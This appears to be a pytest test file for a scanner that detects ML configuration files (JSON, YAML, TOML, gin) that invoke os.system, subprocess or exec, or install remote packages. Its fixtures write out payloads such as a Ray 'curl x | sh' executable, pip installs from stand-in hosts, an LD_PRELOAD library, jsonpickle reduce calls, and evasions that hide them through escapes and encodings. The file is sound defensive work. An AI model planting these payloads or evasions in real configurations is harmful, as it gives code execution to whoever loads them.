"""What a configuration has called, in JSON, TOML, YAML and gin: one law for all of them."""

import json

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from sbom.model import Location
from scanner.examine import Ended, Found, examine
from scanner.files.source import BytesSource
from scanner.limits import Limits
from scanner.model import Evidence, Outcome
from tests.forge import call, stream


def told(data: bytes | str, name: str) -> list[tuple[str, str]]:
    """Rule and subject of each finding."""
    raw = data.encode() if isinstance(data, str) else data
    steps = examine(BytesSource(raw), Location(name), name, Limits())
    found = [step.item for step in steps if isinstance(step, Found) and isinstance(step.item, Evidence)]
    return [(item.rule, item.subject) for item in found]


def outcome(data: bytes | str, name: str) -> set[Outcome]:
    raw = data.encode() if isinstance(data, str) else data
    return {
        step.outcome
        for step in examine(BytesSource(raw), Location(name), name, Limits())
        if isinstance(step, Ended)
    }


def in_json(value: object) -> tuple[str, str]:
    return json.dumps(value), "train.json"


def in_yaml(value: object) -> tuple[str, str]:
    return yaml.safe_dump(value), "train.yaml"


# --- honest -------------------------------------------------------------------------------------------------

HONEST = [
    pytest.param({"model": {"_target_": "torch.nn.Linear", "in_features": 3}}, id="a known class"),
    pytest.param({"class_path": "mine.models.Net", "init_args": {"depth": 2}}, id="the project's own class"),
    pytest.param({"callbacks": [{"class_path": "lightning.pytorch.callbacks.Timer"}]}, id="Lightning"),
    pytest.param({"type": "object", "properties": {"type": {"type": "string"}}}, id="a JSON schema"),
    pytest.param({"type": "my.registry.Backbone"}, id="a registry's type"),
    pytest.param({"type": "os.PathLike"}, id="documentation of a type"),
    pytest.param({"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "P"]}, id="LangChain"),
    pytest.param({"py/object": "numpy.ndarray"}, id="jsonpickle, a known class"),
    pytest.param({"import_path": "app:deployment", "runtime_env": {"pip": ["torch==2.1.0"]}}, id="Ray Serve"),
    pytest.param(
        {"runtime_env": {"working_dir": "https://github.com/a/b/archive/" + "0" * 40 + ".zip"}},
        id="Ray, a commit",
    ),
    pytest.param(
        {"runtime_env": {"working_dir": "./src", "py_executable": "python3 -u", "env_vars": {"A": "1"}}},
        id="Ray, everything of its own",
    ),
    pytest.param({"exec_on": "import os"}, id="words"),
]


@pytest.mark.parametrize("value", HONEST)
@pytest.mark.parametrize("written", [in_json, in_yaml])
def test_what_builds_nothing_dangerous_is_no_evidence(value: object, written: object) -> None:
    assert callable(written)
    text, name = written(value)
    assert told(text, name) == []
    assert outcome(text, name) == {Outcome.INSPECTED}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        pytest.param(
            "[project]\nname = 'a'\n[build-system]\nrequires = ['x']\n", "pyproject.toml", id="pyproject"
        ),
        pytest.param("[model]\n_target_ = 'torch.nn.Linear'\n", "m.toml", id="TOML, a known class"),
        pytest.param(
            "from __gin__ import dynamic_registration\nimport __main__ as run\nfrom t5x import models\n"
            "MODEL = @models.Net()\nrun.train.steps = 1000  # @os.system\n",
            "t5.gin",
            id="gin",
        ),
        pytest.param("include 'base.gin'\ninclude 'a/b.gin'\n", "m.gin", id="gin, files beside it"),
        pytest.param('{"a": 1', "broken.json", id="broken JSON of somebody else"),
        pytest.param("a = = 1", "broken.toml", id="broken TOML of somebody else"),
        pytest.param("", "empty.json", id="nothing"),
        pytest.param('{"\\u0120the": 1}', "vocab.json", id="a vocabulary with escapes"),
    ],
)
def test_other_files_of_these_names_are_nobodys_findings(text: str, name: str) -> None:
    assert told(text, name) == []
    assert outcome(text, name) == {Outcome.INSPECTED}


# --- caught -------------------------------------------------------------------------------------------------

CAUGHT = [
    pytest.param({"a": [{"b": {"_target_": "os.system"}}]}, ("ART-001", "os.system"), id="Hydra, deep"),
    pytest.param(
        {"__target__": "builtins.exec"}, ("ART-001", "builtins.exec"), id="the same by another name"
    ),
    pytest.param(
        {"_target_": "hydra_zen.funcs.zen_processing", "_zen_target": "subprocess.run"},
        ("ART-001", "subprocess.run"),
        id="hydra-zen",
    ),
    pytest.param({"class_path": "subprocess.Popen"}, ("ART-001", "subprocess.Popen"), id="jsonargparse"),
    pytest.param(
        {"_target_": "hydra.utils.get_method", "path": "os.system"}, ("ART-001", "os.system"), id="a resolver"
    ),
    pytest.param({"type": "os.system", "command": "id"}, ("ART-001", "os.system"), id="MMEngine"),
    pytest.param({"import_path": "os:system"}, ("ART-001", "os.system"), id="Ray Serve"),
    pytest.param(
        {"runtime_env": {"pip": ["evil @ git+https://x/y"]}},
        ("ART-023", "pip:evil @ git+https://x/y"),
        id="Ray, a repository",
    ),
    pytest.param(
        {"runtime_env": {"pip": {"packages": ["--extra-index-url https://x/simple", "a"]}}},
        ("ART-023", "pip:--extra-index-url https://x/simple"),
        id="Ray, an index",
    ),
    pytest.param(
        {"runtime_env": {"conda": {"dependencies": ["pip", {"pip": ["http://x/a.whl"]}]}}},
        ("ART-023", "conda:http://x/a.whl"),
        id="Ray, conda",
    ),
    pytest.param(
        {"runtime_env": {"py_modules": ["s3://x/a.zip"]}},
        ("ART-023", "py_modules:s3://x/a.zip"),
        id="Ray, code",
    ),
    pytest.param(
        {"runtime_env": {"py_executable": "sh -c 'curl x | sh'"}},
        ("ART-001", "py_executable"),
        id="Ray, a command",
    ),
    pytest.param(
        {"runtime_env": {"worker_process_setup_hook": "os.system"}},
        ("ART-001", "os.system"),
        id="Ray, a hook",
    ),
    pytest.param(
        {"runtime_env": {"env_vars": {"LD_PRELOAD": "/tmp/x.so"}}},
        ("ART-002", "LD_PRELOAD"),
        id="Ray, a library",
    ),
]


@pytest.mark.parametrize(("value", "expected"), CAUGHT)
@pytest.mark.parametrize("written", [in_json, in_yaml])
def test_what_is_called_or_installed_is_told(
    value: object, expected: tuple[str, str], written: object
) -> None:
    assert callable(written)
    assert expected in told(*written(value))


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        pytest.param("[m]\n_target_ = 'os.system'\n", "m.toml", ("ART-001", "os.system"), id="TOML"),
        pytest.param(
            "a = {class_path = 'os.system'}\n", "m.toml", ("ART-001", "os.system"), id="TOML, inline"
        ),
        pytest.param("[m]\ntype = 'os.system'\n", "m.toml", ("ART-001", "os.system"), id="TOML, a type"),
        pytest.param(
            "[runtime_env]\npip = ['http://x/a.whl']\n",
            "m.toml",
            ("ART-023", "pip:http://x/a.whl"),
            id="TOML, Ray",
        ),
        pytest.param("run.fn = @os.system\n", "m.gin", ("ART-001", "os.system"), id="gin"),
        pytest.param(
            "from subprocess import call as f\nrun.fn = @scope/f()\n",
            "m.gin",
            ("ART-001", "subprocess.call"),
            id="gin, renamed",
        ),
        pytest.param(
            "import os as o\no.system.command = 'id'\n", "m.gin", ("ART-001", "os.system"), id="gin, bound"
        ),
        pytest.param("import pty\n", "m.gin", ("ART-002", "pty"), id="gin, imported only"),
        pytest.param(
            "include '/tmp/x.gin'\n", "m.gin", ("ART-021", "include:/tmp/x.gin"), id="gin, from elsewhere"
        ),
        pytest.param(
            json.dumps({"py/repr": "os/os.system('id')"}), "m.json", ("ART-001", "py/repr"), id="jsonpickle"
        ),
        pytest.param(
            json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}),
            "m.json",
            ("ART-001", "os.system"),
            id="jsonpickle, a call",
        ),
        pytest.param(
            json.dumps({"lc": 1, "type": "constructor", "id": ["os", "system"]}),
            "m.json",
            ("ART-001", "os.system"),
            id="LangChain",
        ),
    ],
)
def test_each_format_tells_it_in_its_own_words(text: str, name: str, expected: tuple[str, str]) -> None:
    assert told(text, name) == [expected]


def test_what_ray_wrote_as_a_pickle_is_read_as_one() -> None:
    pickled = stream(call("posix.system", "id")).hex()
    state = {"runner": [{"a": {"_type": "CLOUDPICKLE_FALLBACK", "value": pickled}}]}
    assert told(json.dumps(state), "experiment_state.json") == [("ART-001", "posix.system")]


# --- broken -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "name", "law"),
    [
        pytest.param('{"_target_": ', "m.json", Outcome.MALFORMED, id="JSON"),
        pytest.param('{"_target_": ' + "[" * 10_000, "m.json", Outcome.LIMITED, id="JSON, deep"),
        pytest.param("_target_ = [", "m.toml", Outcome.MALFORMED, id="TOML"),
        pytest.param("_target_ = " + "[" * 100_000, "m.toml", Outcome.MALFORMED, id="TOML, deep"),
        pytest.param(
            "_target_.a" + ".a" * 100_000 + " = 1", "m.toml", Outcome.LIMITED, id="TOML, many parts"
        ),
        pytest.param("_target_ = 1\n" + "#" * (3 << 20), "m.toml", Outcome.LIMITED, id="TOML, long"),
        pytest.param("#" * (3 << 20), "m.gin", Outcome.LIMITED, id="gin, long"),
        pytest.param(
            json.dumps({"_type": "CLOUDPICKLE_FALLBACK", "value": "zz"}),
            "m.json",
            Outcome.MALFORMED,
            id="no digits",
        ),
    ],
)
def test_files_that_speak_of_targets_and_break_say_so(text: str, name: str, law: Outcome) -> None:
    assert law in outcome(text, name)


# --- evasions -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        pytest.param(b'{"\\u005ftarget_": "os.system"}', "m.json", id="a key in escapes"),
        pytest.param(
            b'{"a": "' + b"x" * (2 << 20) + b'", "_target_": "os.system"}', "m.json", id="far behind"
        ),
        pytest.param(
            json.dumps({"_target_": "os.system"}).encode("utf-16"), "m.json", id="JSON in another encoding"
        ),
        pytest.param(b'\xef\xbb\xbf{"_target_": "os.system"}', "m.json", id="JSON behind a mark"),
        pytest.param(
            b'{"_target_": "torch.nn.Linear", "_target_": "os.system"}', "m.json", id="the last of two"
        ),
        pytest.param(b'"\\u005ftarget_" = "os.system"', "m.toml", id="TOML, a key in escapes"),
        pytest.param(b'\xef\xbb\xbf_target_ = "os.system"', "m.toml", id="TOML behind a mark"),
        pytest.param(b"a = [{b = [{_target_ = 'os.system'}]}]", "m.toml", id="TOML, nested"),
        pytest.param(
            b"_target_ = 'os\\u002esystem'\n__target__ = \"os\\u002esystem\"",
            "m.toml",
            id="a value in escapes",
        ),
        pytest.param(b"import os\\\n as o\nx.y = @o.system\n", "m.gin", id="gin, a line that goes on"),
        pytest.param(b"import os\rx.y = @os.system\r", "m.gin", id="gin, another end of line"),
        pytest.param(b"x.y = [@a/b/os.system()]", "m.gin", id="gin, under scopes"),
    ],
)
def test_it_is_told_however_it_is_written(data: bytes, name: str) -> None:
    assert ("ART-001", "os.system") in told(data, name)


@given(data=st.binary(max_size=200), name=st.sampled_from(["m.json", "m.toml", "m.gin"]))
@settings(max_examples=150, deadline=None)
def test_whatever_the_bytes_are_they_end_in_an_outcome(data: bytes, name: str) -> None:
    for prefix in (b"", b'{"_target_": ', b"_target_ = ", b"import os\nx.y = @"):
        assert Outcome.CRASHED not in outcome(prefix + data, name)


def test_a_part_of_a_model_that_runs_commands_is_told_once() -> None:
    parts = [{"idx": 0, "name": "0", "path": "", "type": "os.system"}]
    assert told(json.dumps(parts), "modules.json") == [("ART-001", "os.system")]
